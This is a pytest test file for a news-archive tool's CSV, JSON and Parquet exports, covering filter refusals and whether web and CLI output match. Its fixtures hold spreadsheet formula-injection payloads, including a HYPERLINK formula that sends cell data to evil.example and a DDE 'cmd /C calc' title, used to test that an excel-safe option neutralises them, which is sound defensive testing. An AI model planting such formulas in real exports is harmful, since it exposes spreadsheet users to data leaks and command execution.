"""Exports a researcher can cite: every filter applied or refused, one layout (web = CLI), articles as units.

Over HTTP against a running `archiver serve`, and through the installed `archiver` command.
"""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import os
import re
import urllib.parse
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from archiver.cli import main
from archiver.extract.model import Comment
from archiver.store import Archive

from .helpers import run_cli, served
from .test_datasette import T1, build_archive, extraction, get, save

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "plain")


def build_export_archive(path: Path) -> Path:
    """Give the small archive of test_datasette plus articles with sections, tags and formula-looking comments."""
    build_archive(path)
    with Archive(path) as archive:
        daily = archive.source("daily").id
        crawl = archive.start_crawl(daily, T1)
        thread = tuple(Comment(f"f{i}", None, "Eve", "2026-03-02T09:00:00", text, i) for i, text in enumerate(FORMULAS))
        vote = extraction(
            "https://daily.example/politics/vote",
            "=cmd|' /C calc'!A0 the vote",
            "The council voted on the budget.",
            "en",
            ["Ann Writer", "Bo Reporter"],
            "2026-01-23T23:30:00+00:00",
            thread,
        )
        save(archive, daily, crawl, replace(vote, tags=("council", "budget")), T1)
        sport = extraction(
            "https://daily.example/sport/match", "Match report", "A quiet match.", "en", ["Bo Reporter"], "2026-01-24"
        )
        save(archive, daily, crawl, replace(sport, tags=("sport",)), T1)
    return path


@pytest.fixture(scope="module")
def archive_db(tmp_path_factory) -> Path:
    return build_export_archive(tmp_path_factory.mktemp("exports") / "archive.db")


@pytest.fixture(scope="module")
def site(archive_db):
    with served(archive_db) as server:
        yield server.base + "/archive"


def fetch(url: str) -> tuple[int, bytes]:
    """Give the status and body bytes of a GET."""
    status, text = get(url)
    return status, text.encode("utf-8")


def cli_export(db: Path, table: str, args: dict, *extra: str) -> tuple[int, bytes, str]:
    """Run `archiver export` in process (the real command) and give its exit code, stdout bytes and stderr."""
    flags = [x for k, v in args.items() for x in (f"--{k}", v)]
    result = CliRunner().invoke(main, ["export", table, "--db", str(db), *flags, *extra], catch_exceptions=False)
    return result.exit_code, result.stdout_bytes, result.stderr


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


# --- point 1 and 3: every filter applied or refused, by name; unknown source; nothing matched; rows written


def test_unknown_source_exits_2_naming_the_known_sources(archive_db, tmp_path):
    out = tmp_path / "a.csv"
    result = run_cli("export", "articles", "--db", str(archive_db), "--source", "nosuch", "-o", str(out))
    assert result.returncode == 2
    assert result.stderr.strip() == "Error: unknown source 'nosuch' (--source) (known sources: daily, weekly)"
    assert not out.exists()


def test_zero_rows_says_the_filters_matched_nothing_and_every_export_says_what_it_wrote(archive_db, tmp_path):
    out = tmp_path / "c.csv"
    result = run_cli("export", "comments", "--db", str(archive_db), "--search", "ceasefire", "-o", str(out))
    assert result.returncode == 0
    lines = result.stderr.strip().splitlines()
    assert lines == [
        "no comments matched the filters (search=ceasefire): the export holds no rows",
        f"wrote 0 rows of comments to {out}",
    ]
    assert out.read_text().startswith("article_url,id,parent,author")  # the header, so the layout is known
    result = run_cli("export", "articles", "--db", str(archive_db), "--source", "weekly")
    assert result.stderr.strip() == "wrote 1 rows of articles to standard output"
    assert len(csv_rows(result.stdout.encode())) == 1


@pytest.mark.parametrize(
    "table, args, words",
    [
        ("crawls", ("--tag", "x"), "filter --tag does not apply to crawls"),
        ("captures", ("--search", "x"), "filter --search does not apply to captures"),
        ("crawls", ("--published-since", "2026-01-01"), "filter --published-since does not apply to crawls"),
        ("articles", ("--has-comments", "maybe"), "--has-comments 'maybe' is not yes or no"),
        ("articles", ("--changed-since", "yesterday"), "--changed-since 'yesterday' is not a date"),
        ("comments", ("--article", "999"), "no article '999'"),
        ("articles", ("--format", "jsonl", "--excel-safe"), "excel-safe is for CSV"),
    ],
)
def test_a_filter_that_cannot_be_applied_is_refused_by_name(archive_db, table, args, words):
    result = run_cli("export", table, "--db", str(archive_db), *args)
    assert result.returncode == 2 and words in result.stderr and result.stdout == ""
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "query, words",
    [
        ("comments.csv?bogus=1", "unknown filter bogus"),
        ("comments.csv?article=29", "no article '29'"),
        ("crawls.csv?tag=x", "filter tag does not apply to crawls"),
        ("articles.csv?source=nosuch", "known sources: daily, weekly"),
        ("articles.csv?source=daily&source=weekly", "filter source is given 2 times"),
        ("articles.jsonl?excel-safe=yes", "excel-safe is for CSV"),
        ("articles.manifest.json?until=soon", "until 'soon' is not a date"),
    ],
)
def test_the_web_refuses_what_it_cannot_apply_with_400(site, query, words):
    status, text = get(f"{site}/-/export/{query}")
    assert status == 400 and words in text


def test_the_article_filter_gives_only_that_articles_comments(site, archive_db):
    status, data = fetch(f"{site}/-/export/comments.csv?article=1")
    rows = csv_rows(data)
    assert status == 200 and {r["article_url"] for r in rows} == {"https://daily.example/tram"} and len(rows) == 5
    everything = csv_rows(fetch(f"{site}/-/export/comments.csv")[1])
    assert len(everything) == len(rows) + len(FORMULAS)


@pytest.mark.parametrize(
    "table, args, expected",
    [
        ("articles", {"section": "politics"}, {"https://daily.example/politics/vote"}),
        ("articles", {"tag": "sport"}, {"https://daily.example/sport/match"}),
        (
            "articles",
            {"author": "Bo Reporter"},
            {"https://daily.example/politics/vote", "https://daily.example/sport/match"},
        ),
        (
            "articles",
            {"has-comments": "no", "source": "daily"},
            {"https://daily.example/evil", "https://daily.example/sport/match"},
        ),
        ("articles", {"changed-since": "2026-03-02"}, {"https://daily.example/tram"}),
        ("articles", {"language": "de"}, {"https://weekly.example/strassenbahn"}),
        (
            "articles",
            {"published-since": "2026-01-23", "published-until": "2026-01-23"},
            {"https://daily.example/politics/vote"},
        ),
        (
            "articles",
            {"first-seen-since": "2026-03-02"},
            {"https://daily.example/politics/vote", "https://daily.example/sport/match"},
        ),
        (
            "articles",
            {"captured-since": "2026-03-02", "captured-until": "2026-03-02", "tag": "council"},
            {"https://daily.example/politics/vote"},
        ),
    ],
)
def test_each_filter_selects_what_it_says(archive_db, table, args, expected):
    code, out, _ = cli_export(archive_db, table, args)
    assert code == 0 and {r["url"] for r in csv_rows(out)} == expected


def test_comment_author_filter_means_the_commenter(archive_db):
    code, out, _ = cli_export(archive_db, "comments", {"author": "Ben"})
    assert code == 0 and [(r["author"], r["text"]) for r in csv_rows(out)] == [("Ben", "I disagree about the trams.")]


# --- point 2: the web's links carry every filter of their page and equal the CLI byte for byte


def action_links(text: str) -> dict[str, str]:
    """Give the table page's export actions: label -> href (unescaped)."""
    links = {}
    for part in text.split('href="/archive/-/export/')[1:]:
        href, rest = part.split('"', 1)
        label = rest.split(">", 1)[1].split("<", 1)[0]
        links[html.unescape(label)] = "/archive/-/export/" + html.unescape(href)
    return links


@pytest.mark.parametrize(
    "page, table, args",
    [
        ("articles?published__date=2026-01-23", "articles", {"since": "2026-01-23", "until": "2026-01-23"}),
        ("articles?_facet_array=authors&authors__arraycontains=Ann+Writer", "articles", {"author": "Ann Writer"}),
        ("articles?source_id=1&_search=trams&_sort=title", "articles", {"source": "daily", "search": "trams"}),
        ("comments?article_id=1&author=Ben", "comments", {"article": "1", "author": "Ben"}),
        ("captures?fetched_at__gte=2026-03-02", "captures", {"since": "2026-03-02"}),
    ],
)
def test_the_table_pages_export_action_carries_its_filters_and_equals_the_cli(site, archive_db, page, table, args):
    status, text = get(f"{site}/{page}")
    assert status == 200
    links = action_links(text)
    href = next(h for label, h in links.items() if label.startswith(f"Export these {page.split('?')[0]} as CSV"))
    assert dict(urllib.parse.parse_qsl(href.split("?", 1)[1])) == args
    status, served = fetch(site.rsplit("/", 1)[0] + href)
    code, out, _ = cli_export(archive_db, table, args)
    assert status == 200 and code == 0 and served == out
    shown = int(re.search(r"<h3>([\d,]+) rows?", text).group(1).replace(",", ""))
    assert len(csv_rows(served)) == shown >= 1


def test_a_table_filter_without_an_export_equivalent_is_refused_not_dropped(site):
    status, text = get(f"{site}/articles?title__contains=tram&language=en")
    href = next(h for label, h in action_links(text).items() if "refused: title__contains" in label)
    status, body = get(site.rsplit("/", 1)[0] + href)
    assert status == 400 and "unknown filter title__contains" in body


def test_datasettes_own_table_csv_gives_the_one_layout_with_the_pages_filters(site, archive_db):
    status, served = fetch(f"{site}/articles.csv?language=de&_size=max")
    code, out, _ = cli_export(archive_db, "articles", {"language": "de"})
    assert status == 200 and served == out and served.startswith(b"url,canonical_url,source,")


def test_the_search_pages_links_carry_author_and_language(site, archive_db):
    status, text = get(f"{site}/-/search?q=trams&language=en&commenter=Ben")
    assert status == 200 and "not part of exports" not in text
    href = html.unescape(text.split('class="export-comments" href="', 1)[1].split('"', 1)[0])
    assert dict(urllib.parse.parse_qsl(href.split("?", 1)[1])) == {"language": "en", "author": "Ben", "search": "trams"}
    status, served = fetch(site.rsplit("/", 1)[0] + href)
    code, out, _ = cli_export(archive_db, "comments", {"language": "en", "author": "Ben", "search": "trams"})
    assert served == out and {r["author"] for r in csv_rows(served)} == {"Ben"}


FILTER_VALUES = {
    "source": st.sampled_from(["daily", "weekly"]),
    "since": st.sampled_from(["2026-01-01", "2026-02-28", "2026-03-02"]),
    "until": st.sampled_from(["2026-01-23", "2026-02-27", "2026-03-01"]),
    "search": st.sampled_from(["trams", "council", "quiet OR harbour", "tram*"]),
    "published-since": st.sampled_from(["2026-01-23", "2026-02-27"]),
    "published-until": st.sampled_from(["2026-01-24", "2026-03-01"]),
    "first-seen-since": st.sampled_from(["2026-03-01", "2026-03-02"]),
    "first-seen-until": st.sampled_from(["2026-03-01", "2026-03-02"]),
    "captured-since": st.sampled_from(["2026-03-01", "2026-03-02"]),
    "captured-until": st.sampled_from(["2026-03-01", "2026-03-02"]),
    "author": st.sampled_from(["Ann Writer", "Bo Reporter", "Ben", "Eve"]),
    "language": st.sampled_from(["en", "de"]),
    "tag": st.sampled_from(["council", "sport"]),
    "section": st.sampled_from(["politics", "sport", "tram"]),
    "article": st.sampled_from(["1", "4", "https://daily.example/tram"]),
    "has-comments": st.sampled_from(["yes", "no"]),
    "changed-since": st.sampled_from(["2026-03-01", "2026-03-02"]),
}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    table=st.sampled_from(["articles", "comments", "versions", "captures", "crawls"]),
    args=st.dictionaries(st.sampled_from(sorted(FILTER_VALUES)), st.just(None), max_size=4).flatmap(
        lambda d: st.fixed_dictionaries({k: FILTER_VALUES[k] for k in d})
    ),
    excel=st.booleans(),
)
def test_web_and_cli_give_the_same_bytes_or_the_same_refusal(site, archive_db, table, args, excel):
    query = dict(args) | ({"excel-safe": "yes"} if excel else {})
    status, served = fetch(f"{site}/-/export/{table}.csv?" + urllib.parse.urlencode(query))
    code, out, err = cli_export(archive_db, table, args, *(["--excel-safe"] if excel else []))
    if code == 0:
        assert status == 200 and served == out
    else:
        assert code == 2 and status == 400
        web_error = served.decode().strip().removeprefix("Error: ")
        assert web_error.split(" (")[0].replace("--", "") == err.strip().removeprefix("Error: ").split(" (")[0].replace(
            "--", ""
        )


# --- point 7: spreadsheet-safe on request, exact by default


def test_excel_safe_neutralises_formula_cells_and_is_off_by_default(site, archive_db):
    _, exact, _ = cli_export(archive_db, "comments", {"article": "4"})
    _, safe, _ = cli_export(archive_db, "comments", {"article": "4"}, "--excel-safe")
    assert [r["text"] for r in csv_rows(exact)] == list(FORMULAS)
    assert [r["text"] for r in csv_rows(safe)] == ["'" + f for f in FORMULAS[:-1]] + ["plain"]
    assert fetch(f"{site}/-/export/comments.csv?article=4&excel-safe=yes")[1] == safe
    titles = [r["title"] for r in csv_rows(cli_export(archive_db, "articles", {"tag": "council"}, "--excel-safe")[1])]
    assert titles == ["'=cmd|' /C calc'!A0 the vote"]


# --- point 4: one article as a unit


def test_one_article_as_json_with_versions_comment_tree_and_captures(site, archive_db, tmp_path):
    out = tmp_path / "article.json"
    result = run_cli("export", "article", "https://daily.example/tram", "--db", str(archive_db), "-o", str(out))
    assert result.returncode == 0 and result.stderr.strip() == f"wrote article 1 to {out}"
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["article"]["title"] == "Harbour tram reopens" and doc["article"]["authors"] == ["Ann Writer"]
    assert [v["version"] for v in doc["versions"]] == [1, 2] and "second line" in doc["versions"][1]["body"]
    top = [c["id"] for c in doc["comments"]]
    assert top == ["c1", "c4", "c5"]
    assert (
        doc["comments"][0]["replies"][0]["id"] == "c2" and doc["comments"][0]["replies"][0]["replies"][0]["id"] == "c3"
    )
    assert doc["comments"][2]["removed_at"] and len(doc["captures"]) == 2
    status, served = fetch(f"{site}/-/article/1.json")
    assert status == 200 and served == out.read_bytes()


def test_one_articles_comments_as_csv_equal_the_comments_export(site, archive_db, tmp_path):
    out = tmp_path / "comments.csv"
    result = run_cli("export", "article", "1", "--format", "csv", "--db", str(archive_db), "-o", str(out))
    _, filtered, _ = cli_export(archive_db, "comments", {"article": "1"})
    assert result.returncode == 0 and out.read_bytes() == filtered
    status, text = get(f"{site}/-/article/1")
    href = html.unescape(text.split('class="download-comments" href="', 1)[1].split('"', 1)[0])
    assert fetch(site.rsplit("/", 1)[0] + href)[1] == filtered
    assert 'href="/archive/-/article/1.json"' in text


def test_an_unknown_article_is_refused(archive_db, site):
    result = run_cli("export", "article", "https://nowhere.example/x", "--db", str(archive_db))
    assert result.returncode == 2 and "no article 'https://nowhere.example/x'" in result.stderr
    assert get(f"{site}/-/article/999.json")[0] == 404


# --- point 6: manifests beside web downloads, extractor versions for every table


@pytest.mark.parametrize("table", ["articles", "comments", "versions", "captures", "crawls"])
def test_the_web_manifest_matches_its_download(site, table):
    status, data = fetch(f"{site}/-/export/{table}.csv?source=daily")
    status, text = get(f"{site}/-/export/{table}.manifest.json?source=daily")
    manifest = json.loads(text)
    assert status == 200 and manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["rows"] == len(csv_rows(data)) and manifest["filters"] == {"source": "daily"}
    assert manifest["extractors"] == ["archiver test"]
    assert manifest["download"] == f"/archive/-/export/{table}.csv?source=daily"


def test_the_cli_manifest_lists_comment_extractors(archive_db, tmp_path):
    out = tmp_path / "comments.csv"
    result = run_cli("export", "comments", "--db", str(archive_db), "--article", "1", "-o", str(out), "--manifest")
    manifest = json.loads((tmp_path / "comments.csv.manifest.json").read_text())
    assert result.returncode == 0 and manifest["extractors"] == ["archiver test"] and manifest["rows"] == 5
    assert manifest["filters"] == {"article": "1"} and result.stderr.strip().endswith("comments.csv.manifest.json")


# --- point 5: the search as JSON


def test_search_json_pages_and_filters_like_the_search_page(site):
    status, text = get(f"{site}/-/search.json?q=trams&commenter=Ben")
    doc = json.loads(text)
    assert status == 200 and doc["total"] == 1 and doc["hits"][0]["kind"] == "comment"
    assert doc["hits"][0]["snippet_html"] == "I disagree about the <mark>trams</mark>."
    assert doc["hits"][0]["page"] == "/archive/-/article/1#comment-2"
    assert doc["exports"]["comments"] == "/archive/-/export/comments.csv?author=Ben&search=trams"
    everything = json.loads(get(f"{site}/-/search.json")[1])
    assert everything["total"] == 5 and everything["next"] is None and everything["request"]["page"] == 1


# --- point 8: Parquet for pandas and R, streamed in row groups


@pytest.mark.parametrize("table", ["articles", "comments", "versions", "captures", "crawls"])
def test_parquet_holds_the_csv_rows_typed_in_bounded_row_groups(archive_db, tmp_path, monkeypatch, table):
    from archiver.export import parquet

    if not os.environ.get("ARCHIVER_REQUIRE_ALL"):
        pytest.importorskip("pyarrow", reason="the parquet extra is not installed")
    import pyarrow.parquet as pq

    monkeypatch.setattr(parquet, "GROUP_ROWS", 2)
    out = tmp_path / f"{table}.parquet"
    code, _, err = cli_export(archive_db, table, {"source": "daily"}, "--format", "parquet", "-o", str(out))
    assert code == 0 and err.strip().endswith(f"to {out}")
    _, csv_data, _ = cli_export(archive_db, table, {"source": "daily"})
    expected = csv_rows(csv_data)
    found = pq.ParquetFile(out)
    assert found.metadata.num_row_groups == -(-len(expected) // 2)
    rows = found.read().to_pylist()
    as_csv = [{k: "" if v is None else str(v) for k, v in row.items()} for row in rows]
    assert as_csv == expected
    assert json.loads(found.schema_arrow.metadata[b"filters"]) == {"source": "daily"}


def test_parquet_refuses_excel_safe_and_standard_output(archive_db):
    assert run_cli("export", "articles", "--db", str(archive_db), "--format", "parquet").returncode == 2
    result = run_cli("export", "articles", "--db", str(archive_db), "--format", "parquet", "--excel-safe", "-o", "x.pq")
    assert result.returncode == 2 and "excel-safe is for CSV" in result.stderr
